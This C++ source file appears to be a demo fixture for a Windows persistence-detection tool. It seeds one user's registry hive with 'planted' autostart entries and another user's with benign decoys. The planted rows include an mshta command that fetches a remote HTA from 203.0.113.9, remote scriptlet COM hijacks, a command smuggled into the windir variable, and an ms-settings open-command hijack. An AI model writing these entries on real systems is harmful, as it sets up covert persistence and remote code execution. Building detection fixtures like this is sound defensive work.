// What starts at logon by the hives of users: Li's were misused, Wang's are as he needs them.
#include "tools/demo/exhibition/exhibition.h"
#include "tools/demo/exhibition/values.h"

namespace xiezhi::demo {
namespace {

using enum Role;
using enum HiveOf;

// clang-format off
constexpr auto kRunKeys = std::to_array<ValueRow>({
    {Planted, "host/run_key_program run_key", Li, R"(Software\Microsoft\Windows\CurrentVersion\Run)", "Update", text("mshta.exe http://203.0.113.9/rk.hta")},
    {Decoy, "host/run_key_program run_key", Wang, R"(Software\Microsoft\Windows\CurrentVersion\Run)", "OneDrive", text(R"("C:\Users\wang\AppData\Local\Microsoft\OneDrive\OneDrive.exe" /background)")},
    {Planted, "host/run_key_program", Li, R"(Software\Microsoft\Windows NT\CurrentVersion\Windows)", "Run", text(R"(C:\Users\Public\rk-win.exe)")},
    {Planted, "host/runonce_program run_key", Li, R"(Software\Microsoft\Windows\CurrentVersion\RunOnce)", "Finish", text(R"(C:\Users\li\AppData\Local\Temp\ro-user.exe)")},
    {Decoy, "host/runonce_program run_key", Wang, R"(Software\Microsoft\Windows\CurrentVersion\RunOnce)", "Uninstall 21.220", text(R"(C:\Windows\system32\cmd.exe /q /c rmdir /s /q "C:\Users\wang\AppData\Local\Microsoft\OneDrive\21.220")")},
});

constexpr auto kRareOnes = std::to_array<ValueRow>({
    {Planted, "host/logon_script", Li, "Environment", "UserInitMprLogonScript", text(R"(C:\Users\li\AppData\Roaming\ls-logon.bat)")},
    {Planted, "host/logon_script", Li, "Environment", "COR_PROFILER_PATH", text(R"(C:\Users\li\AppData\Roaming\ls-profiler.dll)")},
    {Planted, "host/logon_script", Li, "Environment", "windir", text(R"(cmd.exe /c C:\Users\li\AppData\Roaming\ls-windir.bat &&)")},
    {Planted, "host/logon_script", Li, R"(Control Panel\Desktop)", "SCRNSAVE.EXE", text(R"(C:\Users\li\AppData\Roaming\ls-saver.scr)")},
    {Decoy, "host/logon_script", Wang, R"(Control Panel\Desktop)", "SCRNSAVE.EXE", text(R"(C:\Windows\system32\Mystify.scr)")},
    {Planted, "host/logon_script", Li, R"(Software\Microsoft\Command Processor)", "AutoRun", text(R"(C:\Users\li\AppData\Roaming\ls-user.bat)")},
    {Planted, "host/logon_script", Li, R"(Software\Microsoft\Windows\CurrentVersion\Explorer\User Shell Folders)", "Startup", text(R"(C:\Users\Public\ls-startup)")},
    {Decoy, "host/logon_script", Wang, R"(Software\Microsoft\Windows\CurrentVersion\Explorer\User Shell Folders)", "Startup", expand(R"(%USERPROFILE%\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup)")},
    {Planted, "host/logon_script", Li, R"(Software\Microsoft\Ctf\LangBarAddin\{4B2D6E80-1C7A-4F53-9D20-A1B2C3D4E501})", "FilePath", text(R"(C:\Users\li\AppData\Roaming\ls-bar.dll)")},
    {Planted, "host/logon_script", Li, R"(Software\Microsoft\Internet Explorer\Desktop\Components\1)", "Source", text(R"(C:\Users\li\AppData\Roaming\ls-desktop.html)")},
    {Decoy, "host/logon_script", Wang, R"(Software\Microsoft\Internet Explorer\Desktop\Components\0)", "Source", text("About:Home")},
    {Planted, "host/logon_script", Li, R"(Software\Microsoft\Office\16.0\Outlook\WebView\Inbox)", "URL", text("http://203.0.113.9/ls-home.html")},
});

constexpr auto kClasses = std::to_array<ValueRow>({
    {Planted, "host/user_com_hijack", LiClasses, R"(CLSID\{42AEDC87-2188-41FD-B9A3-0C966FEABEC1}\InprocServer32)", "", text(R"(C:\Users\li\AppData\Roaming\ch-server.dll)")},
    {Planted, "host/user_com_hijack", LiClasses, R"(CLSID\{42AEDC87-2188-41FD-B9A3-0C966FEABEC2}\LocalServer32)", "", text(R"(C:\Users\li\AppData\Roaming\ch-local.exe)")},
    {Planted, "host/user_com_hijack", LiClasses, R"(CLSID\{42AEDC87-2188-41FD-B9A3-0C966FEABEC3}\ScriptletURL)", "", text(R"(C:\Users\li\AppData\Roaming\ch-file.sct)")},
    {Planted, "host/user_com_hijack", LiClasses, R"(CLSID\{42AEDC87-2188-41FD-B9A3-0C966FEABEC4}\ScriptletURL)", "", text("http://203.0.113.9/ch.sct")},
    {Decoy, "host/user_com_hijack", WangClasses, R"(CLSID\{A78ED123-AB77-406B-9962-2A5D9D2F7F30}\InprocServer32)", "", text(R"(C:\Users\wang\AppData\Local\Microsoft\OneDrive\21.230\FileSyncShell64.dll)")},
    {Decoy, "host/user_com_hijack", WangClasses, R"(CLSID\{389510B7-9E58-40D7-98BF-60B911CB0EA9}\LocalServer32)", "", text(R"("C:\Users\wang\AppData\Local\Programs\Acme Chat\chat.exe" -ToastActivated)")},
    {Scenery, "", LiClasses, "Local Settings", "", no_value()},
    {Scenery, "", WangClasses, "Local Settings", "", no_value()},
    {Planted, "file_association_hijacked", LiClasses, R"(ms-settings\shell\open\command)", "", text(R"(cmd.exe /c start C:\Users\li\AppData\Roaming\fa.exe)")},
    {Planted, "file_association_hijacked", LiClasses, R"(ms-settings\shell\open\command)", "DelegateExecute", text("")},
    {Decoy, "file_association_hijacked", WangClasses, R"(exefile\shell\open\command)", "", text(R"("%1" %*)")},
});
// clang-format on

}  // namespace

void exhibit_user_autostarts(const Exhibition& at) {
    put_values(at.exhibit, kRunKeys);
    put_values(at.exhibit, kRareOnes);
    put_values(at.exhibit, kClasses);
}

}  // namespace xiezhi::demo
